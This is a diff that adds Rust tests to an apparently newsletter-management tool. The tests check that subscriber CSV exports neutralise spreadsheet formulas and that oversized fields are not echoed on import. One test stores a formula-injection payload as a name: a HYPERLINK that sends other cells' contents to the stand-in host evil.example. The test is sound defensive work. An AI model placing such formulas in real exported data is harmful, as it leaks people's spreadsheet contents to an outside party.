@@ -342,3 +342,71 @@ fn export_then_import_into_a_fresh_site_gives_the_same_list() {
     expect_code(&again, 0);
     assert_eq!(stdout(&again), exported);
 }
+
+/// A name a spreadsheet would run as a formula (here one that leaks other
+/// cells to a web site) is exported as text, even while pending, and comes
+/// back exactly on import.
+#[test]
+fn an_export_neutralises_formulas_and_imports_back_exactly() {
+    let site = Site::empty();
+    let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A2&B3,\"Open\")";
+    for (email, name) in [
+        ("ann@example.org", evil),
+        ("bob@example.org", "'=already quoted"),
+        ("cy@example.org", "'Tis Cy"),
+    ] {
+        expect_code(
+            &site.gazette(&["subscribers", "add", email, "--name", name]),
+            0,
+        );
+    }
+    let out = site.gazette(&["subscribers", "export"]);
+    expect_code(&out, 0);
+    assert_eq!(
+        stdout(&out),
+        "email,name,status\n\
+         ann@example.org,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A2&B3,\"\"Open\"\")\",pending\n\
+         bob@example.org,''=already quoted,pending\n\
+         cy@example.org,'Tis Cy,pending\n"
+    );
+    let fresh = Site::empty();
+    fresh.write("list.csv", &stdout(&out));
+    expect_code(&fresh.gazette(&["subscribers", "import", "list.csv"]), 0);
+    assert_eq!(listed(&fresh), listed(&site));
+    assert_eq!(listed(&fresh)[0].1.as_deref(), Some(evil));
+    let again = fresh.gazette(&["subscribers", "export"]);
+    assert_eq!(stdout(&again), stdout(&out));
+}
+
+/// A runaway field (an unclosed quote, or a hostile file) is neither echoed
+/// whole to stderr nor imported.
+#[test]
+fn a_huge_csv_field_is_not_echoed() {
+    let site = Site::empty();
+    let huge = "x".repeat(30 << 20);
+    // A huge address on a row of its own: that row is skipped, the next imported.
+    site.write(
+        "big.csv",
+        &format!("email,name\n{huge}@example.org,Cy\nbob@example.org,Bob\n"),
+    );
+    let out = site.gazette(&["subscribers", "import", "big.csv"]);
+    expect_code(&out, 1);
+    let err = stderr(&out);
+    assert!(err.len() < 1000, "{} bytes of stderr", err.len());
+    assert!(err.contains("big.csv:2: a row of "), "{err}");
+    assert_eq!(
+        listed(&site),
+        vec![sub("bob@example.org", Some("Bob"), "active")]
+    );
+    // An unclosed quote swallows the rest of the file into one field.
+    site.write(
+        "quote.csv",
+        &format!("email,name\nann@example.org,\"Ann\n{huge}\ncy@example.org,Cy\n"),
+    );
+    let out = site.gazette(&["subscribers", "import", "quote.csv"]);
+    expect_code(&out, 1);
+    let err = stderr(&out);
+    assert!(err.len() < 1000, "{} bytes of stderr", err.len());
+    assert!(err.contains("quote.csv:2: a row of "), "{err}");
+    assert_eq!(listed(&site).len(), 1);
+}
